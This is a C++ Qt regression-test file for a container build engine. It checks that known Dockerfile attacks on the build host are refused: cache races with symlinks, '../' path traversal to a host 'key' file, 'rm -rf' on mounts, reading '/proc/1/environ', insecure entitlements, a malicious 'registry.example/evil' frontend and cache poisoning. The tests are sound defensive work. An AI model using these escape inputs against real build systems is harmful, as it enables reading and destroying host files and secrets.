// SPDX-FileCopyrightText: 2026 The Kiste developers
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Known attacks of Dockerfiles and contexts on whoever builds them; docs/security.md lists them.
#include "tests/privileged/enginefixture.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QTest>

#include <unistd.h>

using namespace Qt::StringLiterals;

class TestCveBuild : public QObject
{
    Q_OBJECT

    using Outcome = EngineFixture::Outcome;
    std::unique_ptr<EngineFixture> m_engine;
    std::unique_ptr<QTemporaryDir> m_context;
    std::unique_ptr<QTemporaryDir> m_elsewhere; ///< of this computer, with a file "key" that no build may see or lose
    QTemporaryDir m_home;

    void write(const QByteArray &dockerfile) const
    {
        QFile file(m_context->filePath(u"Dockerfile"_s));
        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(dockerfile) == dockerfile.size());
    }
    Outcome build(const QByteArray &dockerfile, const QStringList &options = {}) const
    {
        write(dockerfile);
        return m_engine->ctl(QStringList{u"build"_s, u"--no-cache"_s} + options + QStringList{m_context->path()});
    }
    QString run(const QString &image, const QString &script) const
    {
        return m_engine->ctl({u"run"_s, u"--rm"_s, u"--network"_s, u"none"_s, image, u"sh"_s, u"-c"_s, script}).output;
    }
    QByteArray elsewhere() const { return m_elsewhere->path().toUtf8(); }
    void nothingWasSeenOrLost(const Outcome &outcome) const
    {
        QVERIFY2(!outcome.output.contains(u"private"_s) && !outcome.error.contains(u"private"_s), qPrintable(outcome.output + outcome.error));
        QFile key(m_elsewhere->filePath(u"key"_s));
        QVERIFY(key.open(QIODevice::ReadOnly));
        QCOMPARE(key.readAll(), "private\n"_ba);
        QCOMPARE(QDir(m_elsewhere->path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot), (QStringList{u"empty"_s, u"key"_s}));
    }

private slots:
    void initTestCase()
    {
        if (::geteuid() != 0)
            QSKIP("the engine runs as root");
        qputenv("XDG_DATA_HOME", m_home.filePath(u"data"_s).toLocal8Bit());
        qputenv("XDG_CACHE_HOME", m_home.filePath(u"cache"_s).toLocal8Bit());
        qputenv("KISTE_TEST_HOST_SECRET", "private");
        m_engine = std::make_unique<EngineFixture>();
        QVERIFY2(m_engine->isUp(), m_engine->whyNot().constData());
    }

    void init()
    {
        m_context = std::make_unique<QTemporaryDir>();
        m_elsewhere = std::make_unique<QTemporaryDir>();
        QFile key(m_elsewhere->filePath(u"key"_s));
        QVERIFY(key.open(QIODevice::WriteOnly) && key.write("private\n") > 0);
        QVERIFY(QDir(m_elsewhere->path()).mkdir(u"empty"_s));
    }

    void cleanup() { QCOMPARE(m_engine->ctl({u"ps"_s, u"-aq"_s}).output, QString()); }
    void cleanupTestCase() { m_engine.reset(); }

    /// Two steps at a time share a cache; one swaps a folder of it and a link while the other mounts and reads it.
    void cve_2024_23651()
    {
        const Outcome outcome = build("FROM starter AS swapper\n"
                                      "RUN --mount=type=cache,id=race,target=/c touch /c/meet; i=0; while [ $i -lt 400 ]; do i=$((i+1)); mkdir /c/x; rmdir /c/x; ln -s "
                                      + elsewhere() + " /c/x; rm /c/x; done\n"
                                      "FROM starter AS reader\n"
                                      "RUN --mount=type=cache,id=race,target=/c i=0; while [ $i -lt 400 ]; do i=$((i+1)); cat /c/x/key 2>/dev/null; done; true\n"
                                      "RUN --mount=type=cache,id=race,target=/c,from=swapper,source=/c/x cat /c/key /c/x/key; true\n"
                                      "FROM starter\nCOPY --from=swapper /etc/group /a\nCOPY --from=reader /etc/group /b\n");
        nothingWasSeenOrLost(outcome);
        QVERIFY2(outcome.output.contains(u"reader"_s) && outcome.output.contains(u"swapper"_s), qPrintable(outcome.output));
    }

    /// A place for a mount that is made for a step and removed after it lies behind a link of the image.
    void cve_2024_23652()
    {
        const QByteArray links = "FROM starter\nRUN ln -s " + elsewhere() + " /l && ln -s ../../../../../../../../../.." + elsewhere() + " /up && mkdir /real && ln -s real /in\n";
        for (const QByteArray &mount : {"type=tmpfs,target=/l/empty"_ba, "type=tmpfs,target=/up/empty"_ba, "type=cache,target=/l/made"_ba}) {
            const Outcome outcome = build(links + "RUN --mount=" + mount + " true\n");
            QVERIFY2(outcome.exitCode != 0 && outcome.error.contains(u"Not a directory"_s), qPrintable(outcome.error));
            nothingWasSeenOrLost(outcome);
        }
        // A link that stays inside is none of that: the place is made, and goes.
        const Outcome inside = build(links + "RUN --mount=type=tmpfs,target=/in/made touch /real/made/x\nRUN ls -A /real > /seen\n", {u"-t"_s, u"stub"_s});
        QVERIFY2(inside.exitCode == 0, qPrintable(inside.error));
        QVERIFY(!run(u"stub"_s, u"find /real"_s).contains(u"/x"_s));
    }

    /// More than a step may have is refused to the Dockerfile, and is the user's to allow.
    void cve_2024_23653()
    {
        for (const auto &[flag, allowed] : {std::pair("--security=insecure"_ba, u"security.insecure"_s), std::pair("--network=host"_ba, u"network.host"_s)}) {
            const QByteArray file = "FROM starter\nRUN " + flag + " grep CapEff /proc/self/status > /caps; ls /sys/class/net > /links\n";
            const Outcome refused = build(file, {u"-t"_s, u"insecure"_s});
            QVERIFY2(refused.exitCode != 0 && refused.error.contains(u"is not allowed in this build"_s), qPrintable(refused.error));
            const Outcome told = build(file, {u"-t"_s, u"insecure"_s, u"--allow"_s, allowed});
            QVERIFY2(told.exitCode == 0, qPrintable(told.error));
        }
        // A word of the file's own changes nothing.
        const Outcome own = build("# syntax=docker/dockerfile:1-labs\nFROM starter\nRUN --security=insecure true\n");
        QVERIFY(own.exitCode != 0 && own.error.contains(u"is not allowed in this build"_s));
    }

    /// Files of another stage or image behind a link, or above its top.
    void cve_2024_11218()
    {
        const QByteArray evil = "FROM starter AS evil\nRUN ln -s " + elsewhere() + " /link; mkdir -p /deep/real; echo inside > /deep/real/key; ln -s " + elsewhere()
            + " /deep/link; ln -s ../../../../../../../.." + elsewhere() + " /up\nFROM starter\nRUN --mount=type=bind,from=evil,target=/t,source=";
        for (const QByteArray &mode : {"ro"_ba, "rw"_ba}) {
            for (const QByteArray &source : {"/link"_ba, "/link/key"_ba, "/up/key"_ba, "/deep/link"_ba, "../.." + elsewhere() + "/key", elsewhere()}) {
                const Outcome outcome = build(evil + source + ',' + mode + " cat /t /t/key; rm -rf /t/*; true\n");
                QVERIFY2(outcome.exitCode != 0 && outcome.error.contains(u"No such file or directory"_s), qPrintable(QString::fromUtf8(source) + outcome.error));
                nothingWasSeenOrLost(outcome);
            }
            // What is in the stage is there, with its links as they are.
            const Outcome inside = build(evil + "/deep," + mode + " cat /t/real/key /t/link/key > /seen 2>&1; true\n", {u"-t"_s, u"inside"_s});
            QVERIFY2(inside.exitCode == 0, qPrintable(inside.error));
            const QString seen = run(u"inside"_s, u"cat /seen"_s);
            QVERIFY2(seen.startsWith(u"inside\n"_s) && seen.contains(u"No such file"_s), qPrintable(seen));
        }
    }

    /// A cache whose id is a path.
    void cve_2024_9675()
    {
        const QByteArray id = "../../../../../../../../../.." + elsewhere();
        const Outcome outcome = build("FROM starter\nRUN --mount=type=cache,id=" + id + ",target=/c ls -A /c > /seen; cat /c/key; rm -rf /c/*; true\n"
                                      "RUN --mount=type=cache,target=/c,source=" + id + " ls -A /c >> /seen; cat /c/key; rm -rf /c/*; true\n"
                                      "RUN echo end >> /seen\n",
                                      {u"-t"_s, u"cached"_s});
        nothingWasSeenOrLost(outcome);
        QVERIFY2(outcome.exitCode == 0, qPrintable(outcome.error));
        QCOMPARE(run(u"cached"_s, u"cat /seen"_s), u"end\n"_s);
    }

    /// Another program that is to read the Dockerfile, and contexts that somebody else sends.
    void cve_2026_33747()
    {
        const Outcome syntax = build("# syntax=registry.example/evil/frontend:1\nFROM starter\n");
        QVERIFY2(syntax.exitCode != 0 && syntax.error.contains(u"registry.example/evil/frontend"_s), qPrintable(syntax.error));
        for (const QString &context : {u"https://git.example/a.git#main:../../etc"_s, u"git@git.example:a.git#main:/etc"_s}) {
            const Outcome refused = m_engine->ctl({u"build"_s, context});
            QVERIFY2(refused.exitCode != 0 && refused.error.contains(u"is not a folder"_s), qPrintable(refused.error));
        }
    }

    /// A result of a step serves only where what it starts from is the same: files, settings and all.
    void cve_2024_24557()
    {
        const QByteArray step = "RUN echo \"$SECRET\" > /x\n";
        const auto cached = [this](const QByteArray &file, const QString &name) {
            write(file);
            const Outcome outcome = m_engine->ctl({u"build"_s, u"-t"_s, name, m_context->path()});
            return outcome.exitCode == 0 ? outcome.output.contains(u"CACHED"_s) : true;
        };
        QVERIFY(!cached("FROM starter\nENV SECRET=honest\n", u"honest"_s));
        QVERIFY(!cached("FROM starter\nENV SECRET=evil\n", u"evil"_s));
        QVERIFY(!cached("FROM evil\n" + step, u"one"_s));
        QVERIFY(cached("FROM evil\n" + step, u"again"_s)); // there is a cache to poison
        QVERIFY(!cached("FROM honest\n" + step, u"two"_s));
        QCOMPARE(run(u"two"_s, u"cat /x"_s), u"honest\n"_s);
        // An image that somebody names as the engine names results is not one.
        QVERIFY(!cached("FROM scratch\nCOPY Dockerfile /\n", u"localhost/kiste/build-cache:"_s + QString(64, u'a')));
        QCOMPARE(run(u"two"_s, u"cat /x"_s), u"honest\n"_s);
    }

    /// Variables of whoever builds are nobody's but those that are given.
    void cve_2021_3602()
    {
        const Outcome outcome = build("FROM starter\nARG KISTE_TEST_HOST_SECRET\nRUN env > /env; cat /proc/1/environ >> /env\n", {u"-t"_s, u"env"_s});
        QVERIFY2(outcome.exitCode == 0, qPrintable(outcome.error));
        const QString seen = run(u"env"_s, u"cat /env"_s);
        QVERIFY2(seen.contains(u"PATH="_s) && !seen.contains(u"private"_s) && !seen.contains(u"DBUS"_s), qPrintable(seen));
        const Outcome given = build("FROM starter\nARG KISTE_TEST_HOST_SECRET\nRUN env > /env\n",
                                    {u"-t"_s, u"env"_s, u"--build-arg"_s, u"KISTE_TEST_HOST_SECRET"_s});
        QVERIFY2(given.exitCode == 0, qPrintable(given.error));
        QVERIFY(run(u"env"_s, u"cat /env"_s).contains(u"KISTE_TEST_HOST_SECRET=private"_s)); // the user's own wish
    }
};

QTEST_GUILESS_MAIN(TestCveBuild)
#include "tst_cvebuild.moc"
